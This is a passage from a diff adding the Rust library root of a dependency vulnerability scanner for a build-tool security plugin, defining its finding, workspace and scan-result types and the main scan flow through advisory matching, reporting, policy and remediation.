@@ -0,0 +1,5860 @@
+//! The dependency vulnerability scanner behind the Builder security plugin,
+//! for tools that embed it rather than run the plugin binary.
+//!
+//! A [`Scanner`] is built from a [`Config`] and scans a [`Workspace`]: the
+//! dependency files among its sources are read, matched against the
+//! configured advisory sources and reported as the plugin's `build.pre_hook`
+//! would, with the reports written to `report_dir`. Nothing is printed; what
+//! the plugin would log is in [`ScanResult::logs`].
+//!
+//! ```no_run
+//! use security_scanner::{Config, Scanner, Workspace};
+//!
+//! let config = Config::resolve(None, None, None, std::env::vars())?;
+//! let workspace = Workspace::new(".", vec!["package-lock.json".to_string()]).target("web");
+//! let result = Scanner::new(config).scan(&workspace)?;
+//! for finding in &result.vulnerabilities {
+//!     println!("{} {} {}: {}", finding.severity, finding.package, finding.version, finding.id);
+//! }
+//! # Ok::<(), Box<dyn std::error::Error>>(())
+//! ```
+//!
+//! [`plugin`] is the JSON-RPC adapter the `builder-plugin-security` binary
+//! runs.
+
+use schemars::JsonSchema;
+use serde::{Deserialize, Serialize};
+use std::collections::{BTreeMap, BTreeSet, HashMap};
+use std::fs;
+use std::io::{self, BufReader, Read, Write};
+use std::ops::Range;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+use std::time::{Duration, Instant, SystemTime};
+
+use sha2::{Digest, Sha256};
+
+const PLUGIN_NAME: &str = env!("CARGO_PKG_NAME");
+const PLUGIN_VERSION: &str = env!("CARGO_PKG_VERSION");
+
+mod advisories;
+mod aliases;
+mod allowlist;
+mod annotations;
+// Compiled in either way for `is_archive`, and used only with `archive-scan`
+#[cfg_attr(not(feature = "archive-scan"), allow(dead_code))]
+mod archives;
+mod attestation;
+mod artifacts;
+mod budget;
+mod bundle;
+mod cache;
+mod clock;
+mod config;
+mod confusion;
+mod diag;
+mod doctor;
+mod ecosystems;
+mod error;
+mod events;
+mod explain;
+mod fast;
+mod fingerprint;
+mod fsutil;
+mod globs;
+mod handshake;
+mod http;
+#[cfg_attr(not(feature = "archive-scan"), allow(dead_code))]
+mod images;
+mod iotrace;
+mod kev;
+mod lifecycle;
+mod lock;
+mod logcap;
+mod metrics;
+mod notify;
+mod paths;
+mod permissions;
+mod plan;
+pub mod plugin;
+mod policy;
+mod profile;
+mod projects;
+mod provenance;
+mod reachability;
+mod registries;
+mod regression;
+mod remediate;
+mod replay;
+mod report;
+mod roots;
+mod sanitize;
+mod schema;
+mod scripts;
+mod severity;
+mod snapshots;
+mod status;
+mod stdio;
+mod stream;
+mod summary;
+mod suppressions;
+mod telemetry;
+mod template;
+#[cfg(test)]
+mod testutil;
+mod triage;
+mod unscanned;
+mod writers;
+
+use advisories::{AdvisorySource, BuiltinDemo, QueryCache};
+use budget::{Budget, Deadline, DeadlineReader, Phase};
+use clock::Clock;
+use config::ScanConfig;
+use ecosystems::{Dependency, DetectedBy, Ecosystem, EcosystemScanner};
+use profile::Profiler;
+use report::{DbSnapshot, PhaseTimings, ProjectSummary, ReportEnvelope, ScannedFile, TimedOutPhase};
+use stream::FindingStream;
+use suppressions::Suppression;
+use telemetry::{Attr, Tracer};
+use unscanned::{ExtractionOutcome, FileOutcome, NotScanned};
+
+pub use advisories::{Downgrade, Provenance, Reference, SeverityOverride};
+pub use config::ScanConfig as Config;
+pub use error::ScanError;
+pub use remediate::Recommendation;
+pub use report::{write_report, Compression};
+pub use roots::{RootScan, RootsResult};
+pub use severity::Severity;
+
+/// A finding: an advisory matched against a declared package, or a problem
+/// one of the plugin's own checks found.
+#[derive(Serialize, Deserialize, Clone, JsonSchema)]
+#[non_exhaustive]
+pub struct Vulnerability {
+    /// The advisory's id, e.g. `GHSA-35jh-r3h4-6jhm`, or the check's.
+    pub id: String,
+    /// Other ids of the same advisory, from the sources that reported it.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub aliases: Vec<String>,
+    pub severity: Severity,
+    /// CVSS base score, when the advisory has one.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub cvss_score: Option<f64>,
+    /// The affected package and the version declared.
+    pub package: String,
+    pub version: String,
+    /// One plain-text line for logs, chat and annotations; the full
+    /// `description` only goes into file reports.
+    #[serde(default, skip_serializing_if = "String::is_empty")]
+    pub summary: String,
+    pub description: String,
+    /// Nearest version with the fix, when there is one.
+    pub fixed_in: Option<String>,
+    /// Workspace-relative file that declared the vulnerable dependency.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub file: Option<String>,
+    /// 1-based line of the declaration in `file`.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub line: Option<usize>,
+    /// 1-based column of the package name on `line`.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub column: Option<usize>,
+    /// Project `file` belongs to: its nearest directory with a manifest.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub project: Option<String>,
+    /// Registry the dependency comes from, when it isn't the public one.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub registry: Option<String>,
+    /// Link to the advisory, picked from `references`.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub url: Option<String>,
+    /// Every http(s) reference the advisory sources gave.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub references: Vec<advisories::Reference>,
+    /// Go packages of the module the advisory is limited to, if any.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub affected_packages: Vec<String>,
+    /// CWE ids of the weakness (`CWE-79`), or just `UNKNOWN` when the
+    /// advisory sources have none.
+    #[serde(default = "advisories::unknown_cwe")]
+    pub cwe: Vec<String>,
+    /// The advisory sources' categories of the advisory, such as RustSec's
+    /// `memory-corruption`.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub categories: Vec<String>,
+    /// The sources that reported the finding and how each matched it;
+    /// empty for the plugin's own checks.
+    #[serde(default)]
+    pub provenance: Vec<advisories::Provenance>,
+    /// Why the finding matched, in one line: `Cargo.lock has openssl
+    /// 0.10.45; RUSTSEC-2023-0044 affects >=0.10.0, <0.10.55`. Put together
+    /// from `provenance` by [`explain::match_reason`].
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub match_reason: Option<String>,
+    /// Set when the finding is reported below the advisory's severity.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub downgrade: Option<advisories::Downgrade>,
+    /// Set when `severity_overrides` replaced the advisory's severity;
+    /// flattened into `original_severity` and `overridden_by`.
+    #[serde(default, flatten)]
+    pub severity_override: Option<advisories::SeverityOverride>,
+    /// Listed in the `kev_catalog` of known exploited vulnerabilities.
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub kev: bool,
+    /// With `import_hints`, whether the target's sources import the directly
+    /// declared package; unset when that is unknown.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub imported: Option<bool>,
+    /// With `changed_files` in the pre_hook params, whether the change
+    /// introduced the finding; unset without them.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub introduced: Option<bool>,
+    /// Caveat for whoever triages the finding.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub note: Option<String>,
+    /// The name the advisories were matched under, when `name_aliases`
+    /// renamed the declared package.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub matched_as: Option<String>,
+    /// For a package in a container image among the build outputs, the
+    /// digest of the layer that introduced it.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub layer: Option<String>,
+    /// When the advisory was published, as the advisory source gives it.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub published: Option<String>,
+    /// With `grace_period`, when the grace of a finding published recently
+    /// and without a fix ends; until then it only warns.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub grace_until: Option<String>,
+    /// Stable identity of the finding across version bumps; see
+    /// [`fingerprint::ALGORITHM`]. Set once the scan has collected it.
+    #[serde(default, skip_serializing_if = "String::is_empty")]
+    pub fingerprint: String,
+    /// With `workspace.roots`, the root the finding came from.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub root: Option<String>,
+    /// With `report_history`, whether the finding is new, recurring or
+    /// regressed across the target's scans.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub lifecycle: Option<lifecycle::Lifecycle>,
+}
+
+impl Vulnerability {
+    /// A finding of `package` at `version`, summarized from `description`,
+    /// with everything else unset; the other fields are filled in with
+    /// struct update syntax.
+    pub fn new(id: &str, severity: Severity, package: &str, version: &str, description: String) -> Self {
+        Vulnerability {
+            id: id.to_string(),
+            aliases: Vec::new(),
+            severity,
+            cvss_score: None,
+            package: package.to_string(),
+            version: version.to_string(),
+            summary: sanitize::summary("", &description),
+            description,
+            fixed_in: None,
+            file: None,
+            line: None,
+            column: None,
+            project: None,
+            registry: None,
+            url: None,
+            references: Vec::new(),
+            affected_packages: Vec::new(),
+            cwe: advisories::unknown_cwe(),
+            categories: Vec::new(),
+            provenance: Vec::new(),
+            match_reason: None,
+            downgrade: None,
+            severity_override: None,
+            kev: false,
+            imported: None,
+            introduced: None,
+            note: None,
+            matched_as: None,
+            layer: None,
+            published: None,
+            grace_until: None,
+            fingerprint: String::new(),
+            root: None,
+            lifecycle: None,
+        }
+    }
+
+    /// What kind of problem the finding is, as policy rules match it.
+    fn category(&self) -> &'static str {
+        match self.id.as_str() {
+            provenance::PROVENANCE_MISSING | provenance::SIGNATURE_INVALID | provenance::ATTESTATION_INVALID => {
+                "provenance"
+            }
+            confusion::PUBLIC_RESOLUTION | confusion::UNPINNED => "dependency_confusion",
+            scripts::SCRIPT_ADDED => "install_script",
+            allowlist::UNAPPROVED => "unapproved_dependency",
+            _ => "vulnerability",
+        }
+    }
+
+    /// Ecosystem of the declaring file, `unknown` when it has none.
+    fn ecosystem(&self) -> &'static str {
+        self.file
+            .as_deref()
+            .and_then(ecosystems::detect)
+            .map_or("unknown", |scanner| scanner.ecosystem().as_str())
+    }
+
+    /// The finding as the report's `change` section lists it.
+    fn finding_ref(&self) -> report::FindingRef<'_> {
+        report::FindingRef {
+            id: &self.id,
+            package: &self.package,
+            version: &self.version,
+            severity: self.severity,
+            file: self.file.as_deref(),
+            fingerprint: &self.fingerprint,
+        }
+    }
+
+    fn compute_fingerprint(&self) -> String {
+        fingerprint::compute(&self.id, self.ecosystem(), &self.package, self.file.as_deref())
+    }
+}
+
+/// A source file the scanner refused or failed to read.
+#[derive(Serialize, Clone, JsonSchema)]
+pub struct SkippedFile {
+    pub path: String,
+    pub reason: String,
+}
+
+/// What a [`Scanner`] scans: a target's sources in a workspace.
+#[derive(Clone, Debug, Default)]
+#[non_exhaustive]
+pub struct Workspace {
+    /// The workspace root; reports and caches go under it.
+    pub root: PathBuf,
+    /// The target's source files, absolute or relative to `root`. The
+    /// dependency files among them are scanned.
+    pub sources: Vec<String>,
+    /// Name of the target, for its scan summary and notifications.
+    pub target: Option<String>,
+    /// The target's language and type, which narrow the ecosystems
+    /// considered when `ecosystems` isn't set.
+    pub language: Option<String>,
+    pub kind: Option<String>,
+    /// Files the change being built touches, absolute or relative to
+    /// `root`; `None` when unknown. See `fail_on_introduced`.
+    pub changed_files: Option<Vec<String>>,
+    /// Roots under `root`, each scanned on its own by
+    /// [`Scanner::scan_roots`]; `sources` and `changed_files` are relative
+    /// to `root` and go to the innermost root they are under.
+    pub roots: Vec<String>,
+}
+
+impl Workspace {
+    pub fn new(root: impl Into<PathBuf>, sources: Vec<String>) -> Self {
+        Workspace {
+            root: root.into(),
+            sources,
+            ..Workspace::default()
+        }
+    }
+
+    pub fn target(mut self, name: &str) -> Self {
+        self.target = Some(name.to_string());
+        self
+    }
+
+    pub fn language(mut self, language: &str) -> Self {
+        self.language = Some(language.to_string());
+        self
+    }
+
+    pub fn kind(mut self, kind: &str) -> Self {
+        self.kind = Some(kind.to_string());
+        self
+    }
+
+    pub fn changed_files(mut self, files: Vec<String>) -> Self {
+        self.changed_files = Some(files);
+        self
+    }
+
+    pub fn roots(mut self, roots: Vec<String>) -> Self {
+        self.roots = roots;
+        self
+    }
+}
+
+/// What a scan found and decided. Serialized, it is the result of
+/// `build.pre_hook`; `plugin.schema` documents it, so its shape is part of
+/// the plugin's public interface.
+#[derive(Serialize, JsonSchema)]
+#[non_exhaustive]
+pub struct ScanResult {
+    /// Whether the scan passed its policy.
+    pub success: bool,
+    /// What the plugin logs for the scan, one line each.
+    pub logs: Vec<String>,
+    pub skipped: Vec<SkippedFile>,
+    pub not_scanned: Vec<NotScanned>,
+    /// Whether a scan budget ran out before every phase finished.
+    pub partial: bool,
+    pub timed_out: Vec<TimedOutPhase>,
+    /// Whether infrastructure errors may have hidden findings.
+    pub degraded: bool,
+    pub degraded_reasons: Vec<String>,
+    pub errors: Vec<error::ResultEntry>,
+    pub projects: Vec<ProjectSummary>,
+    pub policy: Option<policy::Evaluation>,
+    /// Files the scan wrote.
+    pub outputs: Vec<String>,
+    /// The smallest update of each vulnerable package, as in the report.
+    pub recommendations: Vec<remediate::Recommendation>,
+    pub remediation: Option<remediate::RemediationResult>,
+    /// The updates as a pull request to open, with `remediation_pr`; also
+    /// written to the cache directory.
+    pub remediation_pr: Option<remediate::PullRequest>,
+    pub metrics: Option<metrics::Written>,
+    /// Path of the bundle `report_bundle` wrote.
+    pub bundle: Option<String>,
+    /// What became of every dependency file considered; only with
+    /// `verbosity: "debug"`.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub extraction: Option<Vec<FileOutcome>>,
+    /// With `dry_run`, what a scan would cover, in place of its findings.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub plan: Option<plan::Plan>,
+    /// With `report_history`, the findings' lifecycle states against the
+    /// target's previous scans, and the findings fixed since the last one.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub lifecycle: Option<lifecycle::Summary>,
+    /// The findings, as in the report. Hook results leave them out.
+    #[serde(skip)]
+    pub vulnerabilities: Vec<Vulnerability>,
+    /// The JSON report, when `report_formats` asked for one and the scan
+    /// wrote it.
+    #[serde(skip)]
+    pub report: Option<String>,
+}
+
+impl ScanResult {
+    /// The result of a hook that had nothing to scan.
+    fn empty(logs: Vec<String>) -> Self {
+        ScanResult {
+            success: true,
+            logs,
+            skipped: Vec::new(),
+            not_scanned: Vec::new(),
+            partial: false,
+            timed_out: Vec::new(),
+            degraded: false,
+            degraded_reasons: Vec::new(),
+            errors: Vec::new(),
+            projects: Vec::new(),
+            policy: None,
+            outputs: Vec::new(),
+            recommendations: Vec::new(),
+            remediation: None,
+            remediation_pr: None,
+            metrics: None,
+            bundle: None,
+            extraction: None,
+            plan: None,
+            lifecycle: None,
+            vulnerabilities: Vec::new(),
+            report: None,
+        }
+    }
+}
+
+/// Scans workspaces with one configuration.
+pub struct Scanner {
+    config: ScanConfig,
+}
+
+impl Scanner {
+    pub fn new(config: Config) -> Self {
+        Scanner { config }
+    }
+
+    /// Scan the dependency files among the workspace's sources, write the
+    /// reports `report_formats` asks for and decide the scan by its policy.
+    ///
+    /// Fails only when the workspace can't be read or `db_snapshot` names a
+    /// snapshot that isn't cached; every other problem is in the result's
+    /// `errors`, and decides `success` as `on_error` says.
+    pub fn scan(&self, workspace: &Workspace) -> Result<ScanResult, ScanError> {
+        self.scan_with(workspace, None)
+    }
+
+    /// [`Scanner::scan`], also writing each finding to `notifications` as a
+    /// `plugin.finding` JSON-RPC notification, on its own line, as soon as
+    /// the dependency file it is in has been matched.
+    pub fn scan_notifying(
+        &self,
+        workspace: &Workspace,
+        notifications: &mut dyn Write,
+    ) -> Result<ScanResult, ScanError> {
+        self.scan_with(workspace, Some(notifications))
+    }
+
+    /// Scan each of the workspace's `roots` on its own, as [`Scanner::scan`]
+    /// scans a workspace, against advisory data refreshed once for all of
+    /// them. Each root's reports and caches go under its own directory,
+    /// `<report_dir>/roots/<hash>`, and its findings carry its `root`.
+    ///
+    /// Fails when any root can't be scanned.
+    pub fn scan_roots(&self, workspace: &Workspace) -> Result<RootsResult, ScanError> {
+        self.scan_roots_with(workspace, None)
+    }
+
+    pub(crate) fn scan_roots_with(
+        &self,
+        workspace: &Workspace,
+        mut notifications: Option<&mut dyn Write>,
+    ) -> Result<RootsResult, ScanError> {
+        if let Err(source) = fsutil::read_dir(&workspace.root) {
+            let path = workspace.root.display().to_string();
+            return Err(ScanError::WorkspaceUnreadable { path, source });
+        }
+        // Absolute, so each root's report_dir is the same place whichever
+        // root it is joined to
+        let base = fs::canonicalize(&workspace.root).unwrap_or_else(|_| workspace.root.clone());
+        let labels = roots::labels(&base, &workspace.roots);
+        let db_cache = cache::cache_root(&base, &self.config.report_dir).join("db");
+        let mut advisories = None;
+
+        let mut logs = Vec::new();
+        let outside = roots::outside(&base, &labels, &workspace.sources);
+        if outside > 0 {
+            logs.push(format!("[Security] {} sources under none of workspace.roots were not scanned", outside));
+        }
+        let mut scans = Vec::new();
+        for label in &labels {
+            let hash = roots::hash(label);
+            let mut config = self.config.clone();
+            config.report_dir = roots::report_dir(&base, &self.config.report_dir, &hash).display().to_string();
+            let files_of = |files: &[String]| roots::files_of(&base, &labels, label, files);
+            let root = Workspace {
+                root: paths::join_source(&base, label),
+                sources: files_of(&workspace.sources),
+                changed_files: workspace.changed_files.as_deref().map(files_of),
+                roots: Vec::new(),
+                ..workspace.clone()
+            };
+            let root_of = RootOf {
+                label,
+                db_cache: &db_cache,
+                advisories: &mut advisories,
+            };
+            let notifications = notifications.as_mut().map(|n| &mut **n as &mut dyn Write);
+            let mut result = Scanner { config }.run(&root, notifications, Some(root_of))?;
+            logs.push(format!("[Security] Root {} ({})", label, hash));
+            logs.append(&mut result.logs);
+            scans.push(RootScan {
+                root: label.clone(),
+                hash,
+                result,
+            });
+        }
+
+        Ok(RootsResult {
+            success: scans.iter().all(|scan| scan.result.success),
+            logs,
+            outputs: scans.iter().flat_map(|scan| scan.result.outputs.iter().cloned()).collect(),
+            roots: scans,
+        })
+    }
+
+    pub(crate) fn scan_with(
+        &self,
+        workspace: &Workspace,
+        notifications: Option<&mut dyn Write>,
+    ) -> Result<ScanResult, ScanError> {
+        self.run(workspace, notifications, None)
+    }
+
+    fn run(
+        &self,
+        workspace: &Workspace,
+        notifications: Option<&mut dyn Write>,
+        mut root_of: Option<RootOf>,
+    ) -> Result<ScanResult, ScanError> {
+        let mut logs = vec!["[Security] Initializing security scan".to_string()];
+        if let Err(source) = fsutil::read_dir(&workspace.root) {
+            let path = workspace.root.display().to_string();
+            return Err(ScanError::WorkspaceUnreadable { path, source });
+        }
+        let db_cache = match &root_of {
+            Some(root_of) => root_of.db_cache.to_path_buf(),
+            None => cache::cache_root(&workspace.root, &self.config.report_dir).join("db"),
+        };
+        snapshots::check_pinned_in(&db_cache, &self.config).map_err(ScanError::ConfigInvalid)?;
+
+        if self.config.is_debug() {
+            if let Ok(effective) = serde_json::to_string(&self.config) {
+                logs.push(format!("  [debug] Effective configuration: {}", effective));
+            }
+            if let Ok(sources) = serde_json::to_string(&self.config.setting_sources()) {
+                logs.push(format!("  [debug] Setting sources: {}", sources));
+            }
+        }
+
+        let mut scanner = SecurityScanner::new(workspace.root.clone(), self.config.clone());
+        scanner.target_name = workspace.target.clone();
+        scanner.changed_files = workspace.changed_files.as_ref().map(|files| {
+            files.iter().map(|file| paths::workspace_relative(&scanner.workspace_root, file)).collect()
+        });
+        scanner.db_cache = db_cache;
+        if let Some(root_of) = &mut root_of {
+            scanner.root = Some(root_of.label.to_string());
+            scanner.shared = root_of.advisories.take();
+            scanner.share_advisories = true;
+        }
+        logs.extend(scanner.consider_ecosystems(workspace.language.as_deref(), workspace.kind.as_deref()));
+        if scanner.config.dry_run {
+            let (plan, plan_logs) = scanner.plan(&workspace.sources);
+            logs.extend(plan_logs);
+            let timed_out = std::mem::take(&mut scanner.timed_out);
+            return Ok(ScanResult {
+                skipped: std::mem::take(&mut scanner.skipped),
+                not_scanned: std::mem::take(&mut scanner.not_scanned),
+                partial: !timed_out.is_empty(),
+                timed_out,
+                projects: scanner.project_summaries(),
+                extraction: scanner.config.is_debug().then(|| std::mem::take(&mut scanner.outcomes)),
+                plan: Some(plan),
+                ..ScanResult::empty(logs)
+            });
+        }
+        scanner.tracer = Tracer::from_config(&scanner.config, |key| std::env::var(key).ok());
+        let hook_span = scanner.tracer.start("security.pre_hook");
+
+        let scan_logs = scanner.scan_dependencies(&workspace.sources, notifications);
+        logs.extend(scan_logs);
+        if let Some(root_of) = root_of {
+            *root_of.advisories = scanner.shared.take();
+        }
+
+        // Workflow commands only take effect on stdout, which Builder
+        // forwards the logs to
+        let github_actions = std::env::var("GITHUB_ACTIONS").ok();
+        if annotations::github_enabled(&scanner.config.annotations, github_actions.as_deref()) {
+            logs.extend(annotations::github(
+                &scanner.vulnerabilities,
+                scanner.config.log_description_length,
+            ));
+        }
+
+        let span = scanner.tracer.start("security.report");
+        let report_logs = scanner.generate_report();
+        scanner.tracer.end(span, || {
+            vec![("security.report_formats", Attr::from(scanner.config.report_formats.join(",")))]
+        });
+        logs.extend(report_logs);
+        let skipped = std::mem::take(&mut scanner.skipped);
+        let not_scanned = scanner.not_scanned.clone();
+        let timed_out = scanner.timed_out.clone();
+        let extraction = scanner.config.is_debug().then(|| scanner.outcomes.clone());
+
+        let remediation = match scanner.config.remediate.as_str() {
+            "off" => None,
+            "suggest" => Some(scanner.remediate(false, &mut logs)),
+            "apply" => Some(scanner.remediate(true, &mut logs)),
+            other => unreachable!("remediate '{}' passed ScanConfig::resolve", other),
+        };
+
+        let mut outputs = scanner.outputs.clone();
+        if let Some(result) = &remediation {
+            outputs.extend(result.patches.iter().map(|p| p.patch.clone()));
+        }
+        let remediation_pr = if scanner.config.remediation_pr { scanner.write_pull_request(&mut logs) } else { None };
+        if let Some((path, _)) = &remediation_pr {
+            outputs.push(path.display().to_string());
+        }
+        let remediation_pr = remediation_pr.map(|(_, pull_request)| pull_request);
+
+        let mut metrics = None;
+        if let Some(path) = scanner.write_metrics(&mut logs) {
+            outputs.push(path.display().to_string());
+            metrics = Some(metrics::Written {
+                file: path.display().to_string(),
+                metrics: metrics::METRICS,
+            });
+        }
+
+        let violations = scanner.policy_violations();
+        let evaluation = scanner.evaluate_policy();
+        if let Some(evaluation) = &evaluation {
+            log_policy_warnings(evaluation, &mut logs);
+        }
+        let mut success = true;
+        if !violations.is_empty() {
+            success = false;
+            logs.push("\n  ⛔ Security policy violated:".to_string());
+            for violation in &violations {
+                logs.push(format!("    - {}", violation));
+            }
+        }
+        if scanner.failed_closed().is_some() {
+            success = false;
+        }
+        let degraded_reasons = scanner.degraded_reasons();
+
+        // The files written besides the JSON report, which is bundled as is
+        let is_json_report = |f: &String| {
+            let name = Path::new(f).file_name().map(|n| n.to_string_lossy().into_owned());
+            name.is_some_and(|n| n.starts_with(writers::JSON_REPORT_FILE_NAME))
+        };
+        let files: Vec<String> = outputs.iter().filter(|f| !is_json_report(f)).cloned().collect();
+        let bundle = scanner.write_bundle(&violations, &files, &mut logs);
+        if let Some(path) = &bundle {
+            outputs.push(path.display().to_string());
+        }
+
+        if let Some(name) = &scanner.target_name {
+            let dir = summary::summaries_dir(&cache::cache_root(&scanner.workspace_root, &scanner.config.report_dir));
+            let summary = scanner.target_summary(name, &violations, outputs.clone());
+            if let Err(e) = summary::record(&dir, &summary) {
+                logs.push(format!("  ⚠ Could not record scan summary for post_hook: {}", e));
+            }
+        }
+
+        scanner.write_profile(scanner.target_name.as_deref().unwrap_or("workspace"), &mut logs);
+        let mut tracer = std::mem::replace(&mut scanner.tracer, Tracer::disabled());
+        tracer.end(hook_span, || {
+            vec![
+                ("builder.target", Attr::from(scanner.target_name.clone().unwrap_or_default())),
+                ("security.files", Attr::from(scanner.scanned_files.len())),
+                ("security.findings", Attr::from(scanner.vulnerabilities.len())),
+                ("security.skipped", Attr::from(skipped.len())),
+                ("security.policy_violations", Attr::from(violations.len())),
+            ]
+        });
+        tracer.export(&scanner.config, &mut logs);
+
+        let name = scanner.target_name.as_deref().unwrap_or("workspace");
+        let cache_root = cache::cache_root(&scanner.workspace_root, &scanner.config.report_dir);
+        let logs = logcap::cap(logs, scanner.config.log_line_limit, &logcap::full_log_path(&cache_root, name));
+
+        Ok(ScanResult {
+            success,
+            logs,
+            skipped,
+            not_scanned,
+            partial: !timed_out.is_empty(),
+            timed_out,
+            degraded: !degraded_reasons.is_empty(),
+            degraded_reasons,
+            errors: scanner.result_errors(&violations),
+            projects: scanner.project_summaries(),
+            policy: evaluation,
+            outputs,
+            recommendations: std::mem::take(&mut scanner.recommendations),
+            remediation,
+            remediation_pr,
+            metrics,
+            bundle: bundle.map(|path| path.display().to_string()),
+            extraction,
+            plan: None,
+            lifecycle: scanner.lifecycle.take(),
+            report: scanner.report.take(),
+            vulnerabilities: std::mem::take(&mut scanner.vulnerabilities),
+        })
+    }
+}
+
+/// How a scan takes part in a [`Scanner::scan_roots`] of several roots.
+struct RootOf<'a> {
+    /// The root, relative to the invocation's.
+    label: &'a str,
+    /// The advisory database cache every root shares.
+    db_cache: &'a Path,
+    /// The advisory data an earlier root refreshed, taken by the scan and
+    /// put back for the next root.
+    advisories: &'a mut Option<SharedAdvisories>,
+}
+
+/// Advisory sources as one root's scan refreshed them, for the next root's
+/// scan to match against without refreshing them again.
+struct SharedAdvisories {
+    sources: Vec<Box<dyn AdvisorySource>>,
+    refreshed: Vec<Option<DbSnapshot>>,
+    databases: Vec<DbSnapshot>,
+    /// Why sources couldn't be refreshed, reported by every root's scan.
+    unavailable: Vec<String>,
+    /// The shared lock on the advisory database cache, held until the last
+    /// root is matched.
+    lock: Option<lock::CacheLock>,
+}
+
+/// A dependency file among a target's sources, and how to read it.
+struct Manifest<'a> {
+    source: &'a String,
+    normalized: String,
+    scanner: &'static dyn EcosystemScanner,
+    /// The `ecosystem_overrides` entry that decided the format.
+    rule: Option<String>,
+    project: String,
+}
+
+/// The dependency files among a scan's sources, read.
+struct Extraction {
+    dependencies: Vec<Dependency>,
+    /// The Go sources among them, whose imports decide Go findings.
+    go_sources: Vec<String>,
+    /// The sources `import_hints` reads.
+    code_sources: Vec<(reachability::Language, String)>,
+}
+
+/// Hashes everything read through it, so a file's checksum comes from the
+/// same single pass that extracts its dependencies.
+struct HashingReader<R> {
+    inner: R,
+    hasher: Sha256,
+}
+
+impl<R: Read> Read for HashingReader<R> {
+    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
+        let n = self.inner.read(buf)?;
+        self.hasher.update(&buf[..n]);
+        Ok(n)
+    }
+}
+
+struct SecurityScanner {
+    workspace_root: PathBuf,
+    config: ScanConfig,
+    vulnerabilities: Vec<Vulnerability>,
+    skipped: Vec<SkippedFile>,
+    /// Likely dependency files that weren't scanned, or only in part.
+    not_scanned: Vec<NotScanned>,
+    /// What became of every dependency file considered.
+    outcomes: Vec<FileOutcome>,
+    /// Packages from `internal_registries`, which weren't matched.
+    internal_packages: Vec<registries::InternalPackage>,
+    scanned_files: Vec<ScannedFile>,
+    /// Container images among the build outputs.
+    images: Vec<images::Image>,
+    /// Projects the dependency files found among the sources belong to.
+    projects: BTreeSet<String>,
+    /// Packages the target's Go sources import; `None` without Go sources
+    /// or when one couldn't be read.
+    go_imports: Option<BTreeSet<String>>,
+    /// What `import_hints` read, for the report envelope.
+    import_hints: Option<reachability::Summary>,
+    /// Manifest declarations with a version constraint, for update advice.
+    declared: Vec<Dependency>,
+    /// The smallest update of each vulnerable package, for the logs, the
+    /// report and the hook result.
+    recommendations: Vec<remediate::Recommendation>,
+    /// Ecosystems whose files are scanned and advisories loaded; `None` for
+    /// every one.
+    ecosystems: Option<Vec<Ecosystem>>,
+    sources: Vec<Box<dyn AdvisorySource>>,
+    /// The snapshot each of `sources` refreshed to; `None` when it failed.
+    refreshed: Vec<Option<DbSnapshot>>,
+    databases: Vec<DbSnapshot>,
+    /// Where the advisory sources cache what they fetch.
+    db_cache: PathBuf,
+    /// With `workspace.roots`, the advisory data an earlier root refreshed,
+    /// until the scan takes it; then, with `share_advisories`, the data for
+    /// the next root.
+    shared: Option<SharedAdvisories>,
+    share_advisories: bool,
+    /// Set once a source that caches queries was queried.
+    query_cache: Option<report::QueryCacheStats>,
+    suppressions: Vec<Suppression>,
+    /// Findings dropped by the suppression file.
+    suppressed: Vec<Vulnerability>,
+    /// Findings absent from the previous report.
+    new_findings: usize,
+    /// The previous report's findings, once `generate_report` read them.
+    baseline: Option<Vec<Vulnerability>>,
+    /// With `fail_on_regression`, the target's previous scan from its
+    /// history, once `generate_report` read it.
+    regression_baseline: Option<regression::Baseline>,
+    /// With `report_history`, the findings' states once `generate_report`
+    /// classified them.
+    lifecycle: Option<lifecycle::Summary>,
+    /// Workspace-relative files the change being built touches, from the
+    /// pre_hook's `changed_files`.
+    changed_files: Option<BTreeSet<String>>,
+    /// Files written during this scan.
+    outputs: Vec<String>,
+    /// The JSON report, once `generate_report` wrote it.
+    report: Option<String>,
+    target_name: Option<String>,
+    /// With `workspace.roots`, the root scanned, tagged on its findings.
+    root: Option<String>,
+    started_at: SystemTime,
+    started: Instant,
+    /// Stopped at the `SOURCE_DATE_EPOCH` time in reproducible mode.
+    clock: Arc<dyn Clock>,
+    phases: PhaseTimings,
+    budget: Budget,
+    /// Phases cut short by a time limit.
+    timed_out: Vec<TimedOutPhase>,
+    /// Problems that didn't stop the scan, for the hook result's `errors`.
+    errors: Vec<ScanError>,
+    /// Why the `allowlist` couldn't be read, which fails the scan.
+    allowlist_error: Option<String>,
+    tracer: Tracer,
+    profiler: Profiler,
+}
+
+impl SecurityScanner {
+    fn new(workspace_root: impl Into<PathBuf>, config: ScanConfig) -> Self {
+        let clock: Arc<dyn Clock> = if config.reproducible {
+            let epoch = std::env::var("SOURCE_DATE_EPOCH").ok();
+            Arc::new(clock::FixedClock(report::reproducible_time(epoch.as_deref())))
+        } else {
